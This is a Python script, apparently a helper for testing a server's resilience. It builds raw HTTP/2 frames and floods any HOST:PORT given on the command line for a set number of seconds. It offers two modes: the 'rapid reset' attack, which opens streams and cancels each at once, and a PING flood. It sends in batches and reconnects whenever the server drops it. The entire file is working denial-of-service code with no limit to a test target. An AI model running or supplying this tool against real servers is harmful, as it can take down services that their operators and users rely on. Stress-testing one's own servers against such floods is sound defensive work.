#!/usr/bin/env python3
"""Frames of HTTP/2, and floods of them, in a process of their own: whoever attacks shares no interpreter with those who
behave.

  attack.py HOST:PORT SECONDS rapid_reset|ping_flood    prints how many it sent
"""

import contextlib
import os
import select
import socket
import struct
import sys
import time

CHECK = "/grpc.health.v1.Health/Check"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS, PING, HEADERS, RST_STREAM = 4, 6, 1, 3
CANCEL = struct.pack(">I", 8)
END_HEADERS, END_STREAM = 4, 1


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name, value):
    """A header that no table holds."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path):
    """The headers of a call; its message may follow, or never."""
    return (_literal(b":method", b"POST") + _literal(b":scheme", b"http") + _literal(b":path", path.encode()) +
            _literal(b":authority", b"x") + _literal(b"te", b"trailers") +
            _literal(b"content-type", b"application/grpc"))


def connect(address):
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=10)


def rapid_reset():
    """Streams that are opened and reset at once."""
    headers = request(CHECK)

    def make(i):
        stream = 2 * i + 1
        return frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, CANCEL)

    return make


def ping_flood():
    return lambda i: frame(PING, 0, 0, struct.pack(">Q", i))


def pour(address, seconds, make):
    """Sends what `make(i)` gives as fast as it is taken, connecting anew when hung up on; returns how many were sent."""
    sent = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(address) as connection:
            connection.settimeout(1)
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            i = 0
            while time.monotonic() < end:
                connection.sendall(b"".join(make(i + k) for k in range(50)))
                i += 50
                sent += 50
                while select.select([connection], [], [], 0)[0] and connection.recv(1 << 16):
                    pass
    return sent


if __name__ == "__main__":
    # Attackers have machines of their own: here they leave the processor to those who behave.
    os.nice(10)
    print(pour(sys.argv[1], float(sys.argv[2]), {"rapid_reset": rapid_reset, "ping_flood": ping_flood}[sys.argv[3]]()))
